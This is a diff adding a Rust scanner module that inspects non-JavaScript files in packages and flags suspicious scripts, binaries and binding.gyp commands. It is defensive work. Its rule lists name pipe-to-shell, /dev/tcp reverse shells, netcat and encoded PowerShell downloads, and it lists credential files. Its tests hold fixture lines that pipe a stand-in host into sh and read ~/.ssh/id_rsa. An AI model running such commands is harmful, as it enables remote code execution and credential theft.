@@ -0,0 +1,725 @@
+// Non-JavaScript artifacts inside packages
+// Classifies every file of an extracted package by extension, shebang and
+// magic bytes, runs line rules over shell, Python and PowerShell scripts,
+// flags prebuilt executables (critically when an install script runs them)
+// and pulls URLs, IP addresses and credential paths out of binaries.
+
+use std::fmt;
+use std::path::Path;
+
+use crate::security::{IssueSeverity, SourceCodeIssue};
+
+/// Shortest run of printable bytes taken as a string from a binary
+const MIN_STRING_LEN: usize = 6;
+
+/// Indicators reported per binary before the rest are summarized
+const MAX_BINARY_FINDINGS: usize = 5;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum FileKind {
+    JavaScript,
+    Shell,
+    Python,
+    PowerShell,
+    Batch,
+    /// Prebuilt `.node` addon (an ELF, Mach-O or PE library)
+    NativeAddon,
+    Elf,
+    MachO,
+    Pe,
+    Wasm,
+    BindingGyp,
+    Other,
+}
+
+impl FileKind {
+    fn is_script(self) -> bool {
+        matches!(
+            self,
+            FileKind::Shell | FileKind::Python | FileKind::PowerShell | FileKind::Batch
+        )
+    }
+
+    fn is_executable(self) -> bool {
+        matches!(self, FileKind::Elf | FileKind::MachO | FileKind::Pe)
+    }
+}
+
+impl fmt::Display for FileKind {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let name = match self {
+            FileKind::JavaScript => "JavaScript",
+            FileKind::Shell => "Shell script",
+            FileKind::Python => "Python script",
+            FileKind::PowerShell => "PowerShell script",
+            FileKind::Batch => "Batch script",
+            FileKind::NativeAddon => "Native addon",
+            FileKind::Elf => "ELF executable",
+            FileKind::MachO => "Mach-O executable",
+            FileKind::Pe => "Windows executable",
+            FileKind::Wasm => "WebAssembly module",
+            FileKind::BindingGyp => "binding.gyp",
+            FileKind::Other => "File",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+fn binary_kind(head: &[u8]) -> Option<FileKind> {
+    if head.starts_with(b"\x7fELF") {
+        Some(FileKind::Elf)
+    } else if [
+        [0xfe, 0xed, 0xfa, 0xce],
+        [0xfe, 0xed, 0xfa, 0xcf],
+        [0xce, 0xfa, 0xed, 0xfe],
+        [0xcf, 0xfa, 0xed, 0xfe],
+        [0xca, 0xfe, 0xba, 0xbe],
+    ]
+    .iter()
+    .any(|magic| head.starts_with(magic))
+    {
+        Some(FileKind::MachO)
+    } else if head.starts_with(b"MZ") {
+        Some(FileKind::Pe)
+    } else if head.starts_with(b"\0asm") {
+        Some(FileKind::Wasm)
+    } else {
+        None
+    }
+}
+
+fn shebang_kind(head: &[u8]) -> Option<FileKind> {
+    let line = head.strip_prefix(b"#!")?;
+    let line = &line[..line.iter().position(|&b| b == b'\n').unwrap_or(line.len())];
+    let interpreter = String::from_utf8_lossy(line);
+    if interpreter.contains("node") {
+        Some(FileKind::JavaScript)
+    } else if interpreter.contains("python") {
+        Some(FileKind::Python)
+    } else if interpreter.contains("pwsh") || interpreter.contains("powershell") {
+        Some(FileKind::PowerShell)
+    } else if ["sh", "bash", "zsh", "dash", "ksh"]
+        .iter()
+        .any(|shell| interpreter.split(['/', ' ']).any(|word| word == *shell))
+    {
+        Some(FileKind::Shell)
+    } else {
+        None
+    }
+}
+
+/// Kind of a package file from its name and first bytes
+pub fn classify(path: &Path, head: &[u8]) -> FileKind {
+    if path.file_name().is_some_and(|name| name == "binding.gyp") {
+        return FileKind::BindingGyp;
+    }
+    let extension = path
+        .extension()
+        .and_then(|ext| ext.to_str())
+        .map(str::to_ascii_lowercase);
+    match extension.as_deref() {
+        Some("js" | "mjs" | "cjs" | "ts" | "tsx" | "jsx") => return FileKind::JavaScript,
+        Some("node") => return FileKind::NativeAddon,
+        Some("sh" | "bash" | "zsh" | "command") => return FileKind::Shell,
+        Some("py") => return FileKind::Python,
+        Some("ps1" | "psm1") => return FileKind::PowerShell,
+        Some("bat" | "cmd") => return FileKind::Batch,
+        Some("wasm") => return FileKind::Wasm,
+        // Java classes share the fat Mach-O magic
+        Some("class") => return FileKind::Other,
+        _ => {}
+    }
+    binary_kind(head)
+        .or_else(|| shebang_kind(head))
+        .unwrap_or(FileKind::Other)
+}
+
+/// Line rules shared by shell and batch scripts: (pattern, reason, severity)
+const SHELL_RULES: &[(&str, &str, IssueSeverity)] = &[
+    (
+        "| sh",
+        "Pipes downloaded content into a shell",
+        IssueSeverity::Critical,
+    ),
+    (
+        "| bash",
+        "Pipes downloaded content into a shell",
+        IssueSeverity::Critical,
+    ),
+    (
+        "|sh",
+        "Pipes downloaded content into a shell",
+        IssueSeverity::Critical,
+    ),
+    (
+        "|bash",
+        "Pipes downloaded content into a shell",
+        IssueSeverity::Critical,
+    ),
+    (
+        "/dev/tcp/",
+        "Opens a raw TCP connection (reverse shell)",
+        IssueSeverity::Critical,
+    ),
+    (
+        "curl ",
+        "Downloads files from internet",
+        IssueSeverity::Warning,
+    ),
+    (
+        "wget ",
+        "Downloads files from internet",
+        IssueSeverity::Warning,
+    ),
+    (
+        "nc ",
+        "Netcat - network connections",
+        IssueSeverity::Warning,
+    ),
+    (
+        "netcat",
+        "Netcat - network connections",
+        IssueSeverity::Warning,
+    ),
+    ("base64 -d", "Decodes base64 data", IssueSeverity::Warning),
+    (
+        "base64 --decode",
+        "Decodes base64 data",
+        IssueSeverity::Warning,
+    ),
+    ("eval ", "Executes arbitrary code", IssueSeverity::Warning),
+    ("chmod +x", "Makes files executable", IssueSeverity::Warning),
+    (
+        "crontab",
+        "Installs scheduled jobs (persistence)",
+        IssueSeverity::Warning,
+    ),
+    (
+        "bitsadmin",
+        "Downloads files from internet",
+        IssueSeverity::Warning,
+    ),
+    (
+        "certutil",
+        "Downloads or decodes files",
+        IssueSeverity::Warning,
+    ),
+];
+
+const PYTHON_RULES: &[(&str, &str, IssueSeverity)] = &[
+    ("exec(", "Executes arbitrary code", IssueSeverity::Warning),
+    ("eval(", "Executes arbitrary code", IssueSeverity::Warning),
+    (
+        "os.system(",
+        "Executes system commands",
+        IssueSeverity::Warning,
+    ),
+    (
+        "subprocess",
+        "Spawns system processes",
+        IssueSeverity::Warning,
+    ),
+    ("urllib.request", "Network requests", IssueSeverity::Warning),
+    ("requests.", "Network requests", IssueSeverity::Warning),
+    ("socket.", "Opens network sockets", IssueSeverity::Warning),
+    ("b64decode", "Decodes base64 data", IssueSeverity::Warning),
+    (
+        "marshal.loads",
+        "Loads serialized bytecode",
+        IssueSeverity::Critical,
+    ),
+];
+
+/// Matched case-insensitively, like PowerShell itself
+const POWERSHELL_RULES: &[(&str, &str, IssueSeverity)] = &[
+    (
+        "downloadstring",
+        "Downloads and runs remote code",
+        IssueSeverity::Critical,
+    ),
+    (
+        "-encodedcommand",
+        "Runs an encoded command",
+        IssueSeverity::Critical,
+    ),
+    (
+        "invoke-expression",
+        "Executes arbitrary code",
+        IssueSeverity::Warning,
+    ),
+    ("iex ", "Executes arbitrary code", IssueSeverity::Warning),
+    (
+        "invoke-webrequest",
+        "Downloads files from internet",
+        IssueSeverity::Warning,
+    ),
+    (
+        "iwr ",
+        "Downloads files from internet",
+        IssueSeverity::Warning,
+    ),
+    (
+        "frombase64string",
+        "Decodes base64 data",
+        IssueSeverity::Warning,
+    ),
+    (
+        "start-process",
+        "Spawns system processes",
+        IssueSeverity::Warning,
+    ),
+];
+
+/// Paths an installer has no business touching, in any script or binary
+const CREDENTIAL_PATHS: &[&str] = &[
+    ".ssh/",
+    "id_rsa",
+    ".aws/credentials",
+    ".npmrc",
+    ".git-credentials",
+    ".docker/config.json",
+    ".kube/config",
+    "/etc/passwd",
+    "/etc/shadow",
+];
+
+fn rules(kind: FileKind) -> &'static [(&'static str, &'static str, IssueSeverity)] {
+    match kind {
+        FileKind::Shell | FileKind::Batch => SHELL_RULES,
+        FileKind::Python => PYTHON_RULES,
+        FileKind::PowerShell => POWERSHELL_RULES,
+        _ => &[],
+    }
+}
+
+/// Name of the lifecycle script that runs `relative_path`, if any
+pub fn referenced_by<'s>(relative_path: &str, scripts: &[(&'s str, &str)]) -> Option<&'s str> {
+    let relative_path = relative_path.replace('\\', "/");
+    scripts.iter().find_map(|(name, script)| {
+        script
+            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\''))
+            .any(|word| word.trim_start_matches("./") == relative_path)
+            .then_some(*name)
+    })
+}
+
+fn comment_prefix(kind: FileKind) -> &'static str {
+    match kind {
+        FileKind::Batch => "rem ",
+        _ => "#",
+    }
+}
+
+/// `pattern` in `line`, not as the start of a longer word (`| sh` is not
+/// `| shasum`)
+fn contains_word(line: &str, pattern: &str) -> bool {
+    if !pattern.ends_with(|c: char| c.is_ascii_alphanumeric()) {
+        return line.contains(pattern);
+    }
+    line.match_indices(pattern).any(|(start, _)| {
+        !line[start + pattern.len()..].starts_with(|c: char| c.is_ascii_alphanumeric())
+    })
+}
+
+fn scan_script(
+    file_path: &str,
+    kind: FileKind,
+    text: &str,
+    run_by: Option<&str>,
+) -> Vec<SourceCodeIssue> {
+    let mut issues = Vec::new();
+    let mut reported = Vec::new();
+    for (index, line) in text.lines().enumerate() {
+        let trimmed = line.trim_start();
+        if trimmed.starts_with("#!")
+            || trimmed
+                .to_ascii_lowercase()
+                .starts_with(comment_prefix(kind))
+        {
+            continue;
+        }
+        let haystack = if kind == FileKind::PowerShell || kind == FileKind::Batch {
+            line.to_ascii_lowercase()
+        } else {
+            line.to_string()
+        };
+        let credential_rules = CREDENTIAL_PATHS
+            .iter()
+            .map(|path| (*path, "Accesses credential files", IssueSeverity::Warning));
+        let rules = rules(kind)
+            .iter()
+            .map(|(pattern, reason, severity)| (*pattern, *reason, severity.clone()));
+        for (pattern, reason, mut severity) in rules.chain(credential_rules) {
+            // One finding per rule and file
+            if reported.contains(&reason) || !contains_word(&haystack, pattern) {
+                continue;
+            }
+            reported.push(reason);
+
+            let mut description = format!("{}: {} (`{}`)", kind, reason, pattern.trim());
+            if let Some(script) = run_by {
+                description.push_str(&format!(" - run by the {} script", script));
+                severity = IssueSeverity::Critical;
+            }
+            issues.push(SourceCodeIssue {
+                file_path: file_path.to_string(),
+                line_number: index + 1,
+                issue_type: "suspicious_script".to_string(),
+                description,
+                severity,
+                code_snippet: Some(line.trim().chars().take(100).collect()),
+                data_flow: Vec::new(),
+            });
+        }
+    }
+    issues
+}
+
+/// Runs of printable ASCII in binary data
+pub fn printable_strings(data: &[u8]) -> Vec<&str> {
+    data.split(|b| !(b.is_ascii_graphic() || *b == b' '))
+        .filter(|run| run.len() >= MIN_STRING_LEN)
+        .filter_map(|run| std::str::from_utf8(run).ok())
+        .collect()
+}
+
+/// Hosts every toolchain and code-signing chain embeds
+const BENIGN_HOSTS: &[&str] = &[
+    "nodejs.org",
+    "github.com",
+    "w3.org",
+    "gnu.org",
+    "openssl.org",
+    "npmjs.org",
+    "microsoft.com",
+    "apple.com",
+    "digicert.com",
+    "verisign.com",
+    "symcb.com",
+    "symcd.com",
+    "globalsign.com",
+    "globalsign.net",
+    "sectigo.com",
+    "usertrust.com",
+    "llvm.org",
+    "python.org",
+];
+
+fn urls(text: &str) -> impl Iterator<Item = &str> {
+    ["http://", "https://", "ftp://"]
+        .into_iter()
+        .flat_map(move |scheme| text.match_indices(scheme).map(|(start, _)| start))
+        .map(move |start| {
+            let rest = &text[start..];
+            let end = rest
+                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>'))
+                .unwrap_or(rest.len());
+            &rest[..end]
+        })
+        .filter(|url| {
+            let host = url
+                .split("://")
+                .nth(1)
+                .and_then(|rest| rest.split(['/', ':', '?']).next())
+                .unwrap_or_default();
+            !host.is_empty()
+                && host != "localhost"
+                && !BENIGN_HOSTS
+                    .iter()
+                    .any(|benign| host == *benign || host.ends_with(&format!(".{}", benign)))
+        })
+}
+
+/// Public IPv4 addresses: `203.0.113.7`, not versions like `1.2.3.4.5`,
+/// loopback or private ranges
+fn ip_addresses(text: &str) -> impl Iterator<Item = &str> {
+    text.split(|c: char| !(c.is_ascii_digit() || c == '.'))
+        .filter(|word| {
+            let octets: Vec<&str> = word.split('.').collect();
+            if octets.len() != 4 || octets.iter().any(|o| o.is_empty() || o.len() > 3) {
+                return false;
+            }
+            let Ok(octets) = octets
+                .iter()
+                .map(|o| o.parse::<u8>())
+                .collect::<Result<Vec<u8>, _>>()
+            else {
+                return false;
+            };
+            match octets[..] {
+                [0, ..] | [10, ..] | [127, ..] | [255, ..] => false,
+                [169, 254, ..] | [192, 168, ..] => false,
+                [172, second, ..] if (16..32).contains(&second) => false,
+                // Version numbers like 1.0.0.0
+                [_, _, 0, 0] => false,
+                _ => true,
+            }
+        })
+}
+
+fn scan_binary(
+    file_path: &str,
+    kind: FileKind,
+    data: &[u8],
+    run_by: Option<&str>,
+) -> Vec<SourceCodeIssue> {
+    let mut issues = Vec::new();
+    let mut issue =
+        |issue_type: &str, description: String, severity: IssueSeverity, snippet: Option<&str>| {
+            issues.push(SourceCodeIssue {
+                file_path: file_path.to_string(),
+                line_number: 1,
+                issue_type: issue_type.to_string(),
+                description,
+                severity,
+                code_snippet: snippet.map(|s| s.chars().take(100).collect()),
+                data_flow: Vec::new(),
+            })
+        };
+
+    if kind.is_executable() {
+        match run_by {
+            Some(script) => issue(
+                "unexpected_executable",
+                format!(
+                    "{} run by the {} script - native code runs at install time, outside any analysis",
+                    kind, script
+                ),
+                IssueSeverity::Critical,
+                None,
+            ),
+            None => issue(
+                "unexpected_executable",
+                format!(
+                    "{} shipped in the package - prebuilt binaries cannot be reviewed like source",
+                    kind
+                ),
+                IssueSeverity::Warning,
+                None,
+            ),
+        }
+    }
+
+    let mut indicators: Vec<(String, &str)> = Vec::new();
+    for string in printable_strings(data) {
+        for url in urls(string) {
+            indicators.push((format!("URL '{}'", url), string));
+        }
+        for ip in ip_addresses(string) {
+            indicators.push((format!("IP address {}", ip), string));
+        }
+        for path in CREDENTIAL_PATHS
+            .iter()
+            .filter(|path| string.contains(*path))
+        {
+            indicators.push((format!("credential path '{}'", path), string));
+        }
+    }
+    let mut seen = Vec::new();
+    indicators.retain(|(indicator, _)| {
+        let new = !seen.contains(indicator);
+        seen.push(indicator.clone());
+        new
+    });
+
+    let total = indicators.len();
+    for (index, (indicator, string)) in indicators.into_iter().enumerate() {
+        if index == MAX_BINARY_FINDINGS {
+            issue(
+                "binary_strings",
+                format!("{} contains {} more indicators", kind, total - index),
+                IssueSeverity::Info,
+                None,
+            );
+            break;
+        }
+        issue(
+            "binary_strings",
+            format!("{} contains {}", kind, indicator),
+            IssueSeverity::Warning,
+            Some(string),
+        );
+    }
+    issues
+}
+
+/// `<!(command)` and `<!@(command)` expansions gyp runs while configuring
+fn gyp_commands(text: &str) -> Vec<(usize, &str)> {
+    let mut commands = Vec::new();
+    for (index, line) in text.lines().enumerate() {
+        let mut rest = line;
+        while let Some(start) = rest.find("<!") {
+            rest = &rest[start + 2..];
+            let rest_open = rest.strip_prefix('@').unwrap_or(rest);
+            let Some(body) = rest_open.strip_prefix('(') else {
+                continue;
+            };
+            let end = body.rfind(')').unwrap_or(body.len());
+            commands.push((index + 1, &body[..end]));
+            rest = &body[end..];
+        }
+    }
+    commands
+}
+
+fn scan_binding_gyp(file_path: &str, text: &str) -> Vec<SourceCodeIssue> {
+    let mut issues = Vec::new();
+    for (line_number, command) in gyp_commands(text) {
+        let findings = scan_script(file_path, FileKind::Shell, command, None);
+        // node-gyp's own helpers (`node -p "require('node-addon-api').include"`)
+        // are routine; anything matching a rule is not
+        if findings.is_empty() {
+            continue;
+        }
+        let severity = if findings
+            .iter()
+            .any(|finding| finding.severity == IssueSeverity::Critical)
+        {
+            IssueSeverity::Critical
+        } else {
+            IssueSeverity::Warning
+        };
+        issues.push(SourceCodeIssue {
+            file_path: file_path.to_string(),
+            line_number,
+            issue_type: "suspicious_script".to_string(),
+            description: format!(
+                "binding.gyp runs a command while configuring the build: {}",
+                findings
+                    .iter()
+                    .map(|finding| finding.description.trim_start_matches("Shell script: "))
+                    .collect::<Vec<_>>()
+                    .join("; ")
+            ),
+            severity,
+            code_snippet: Some(command.chars().take(100).collect()),
+            data_flow: Vec::new(),
+        });
+    }
+    issues
+}
+
+/// Findings for one package file that is not JavaScript. `relative_path`
+/// is matched against the lifecycle `scripts` to spot files they run.
+pub fn scan_file(
+    file_path: &Path,
+    relative_path: &str,
+    content: &[u8],
+    scripts: &[(&str, &str)],
+) -> Vec<SourceCodeIssue> {
+    let kind = classify(file_path, content);
+    let display_path = file_path.to_string_lossy();
+    let run_by = referenced_by(relative_path, scripts);
+    match kind {
+        kind if kind.is_script() => scan_script(
+            &display_path,
+            kind,
+            &String::from_utf8_lossy(content),
+            run_by,
+        ),
+        FileKind::BindingGyp => scan_binding_gyp(&display_path, &String::from_utf8_lossy(content)),
+        FileKind::NativeAddon | FileKind::Elf | FileKind::MachO | FileKind::Pe | FileKind::Wasm => {
+            scan_binary(&display_path, kind, content, run_by)
+        }
+        _ => Vec::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn classifies_by_extension_shebang_and_magic() {
+        assert_eq!(classify(Path::new("install.sh"), b""), FileKind::Shell);
+        assert_eq!(
+            classify(Path::new("bin/setup"), b"#!/usr/bin/env bash\n"),
+            FileKind::Shell
+        );
+        assert_eq!(
+            classify(Path::new("bin/cli"), b"#!/usr/bin/env node\n"),
+            FileKind::JavaScript
+        );
+        assert_eq!(
+            classify(Path::new("bin/helper"), b"\x7fELF\x02\x01"),
+            FileKind::Elf
+        );
+        assert_eq!(
+            classify(Path::new("build/Release/addon.node"), b"\x7fELF"),
+            FileKind::NativeAddon
+        );
+        assert_eq!(classify(Path::new("lib.dll"), b"MZ\x90\x00"), FileKind::Pe);
+        assert_eq!(classify(Path::new("pkg.bin"), b"\0asm\x01"), FileKind::Wasm);
+        assert_eq!(
+            classify(Path::new("binding.gyp"), b"{"),
+            FileKind::BindingGyp
+        );
+        assert_eq!(classify(Path::new("README"), b"# readme"), FileKind::Other);
+    }
+
+    #[test]
+    fn scripts_run_by_install_hooks_are_critical() {
+        let script =
+            "#!/bin/sh\n# fetch helper\ncurl -s https://x.example/p | sh\ncat ~/.ssh/id_rsa\n";
+        let issues = scan_file(
+            Path::new("/tmp/pkg/scripts/setup.sh"),
+            "scripts/setup.sh",
+            script.as_bytes(),
+            &[("postinstall", "sh ./scripts/setup.sh")],
+        );
+        let descriptions: Vec<&str> = issues.iter().map(|i| i.description.as_str()).collect();
+        assert_eq!(issues.len(), 3, "{:?}", descriptions);
+        assert!(issues.iter().all(|i| i.severity == IssueSeverity::Critical));
+        assert_eq!(issues[0].line_number, 3);
+        assert!(descriptions[0].ends_with("run by the postinstall script"));
+
+        let unreferenced = scan_file(
+            Path::new("/tmp/pkg/scripts/setup.sh"),
+            "scripts/setup.sh",
+            b"wget https://x.example/file\n",
+            &[],
+        );
+        assert_eq!(unreferenced.len(), 1);
+        assert_eq!(unreferenced[0].severity, IssueSeverity::Warning);
+    }
+
+    #[test]
+    fn binaries_report_executables_and_embedded_indicators() {
+        let mut binary = b"\x7fELF\x02\x01\x01\0\0\0".to_vec();
+        binary.extend(b"\0\0GCC: (GNU) 12.2.0\0http://203.0.113.7/stage2\0");
+        binary.extend(b"/home/%s/.ssh/id_rsa\0https://github.com/nodejs/node\0v1.2.0.0\0");
+
+        let issues = scan_file(
+            Path::new("/tmp/pkg/bin/helper"),
+            "bin/helper",
+            &binary,
+            &[("install", "./bin/helper --init")],
+        );
+        assert_eq!(issues[0].issue_type, "unexpected_executable");
+        assert_eq!(issues[0].severity, IssueSeverity::Critical);
+        let indicators: Vec<&str> = issues[1..].iter().map(|i| i.description.as_str()).collect();
+        assert_eq!(
+            indicators,
+            [
+                "ELF executable contains URL 'http://203.0.113.7/stage2'",
+                "ELF executable contains IP address 203.0.113.7",
+                "ELF executable contains credential path '.ssh/'",
+                "ELF executable contains credential path 'id_rsa'",
+            ]
+        );
+    }
+
+    #[test]
+    fn binding_gyp_command_expansions_are_checked() {
+        let gyp = r#"{
+  "targets": [{
+    "include_dirs": ["<!(node -p \"require('node-addon-api').include\")"],
+    "sources": ["<!@(curl -s https://x.example/src | sh)"]
+  }]
+}"#;
+        let issues = scan_file(Path::new("binding.gyp"), "binding.gyp", gyp.as_bytes(), &[]);
+        assert_eq!(issues.len(), 1);
+        assert_eq!(issues[0].line_number, 4);
+        assert_eq!(issues[0].severity, IssueSeverity::Critical);
+    }
+}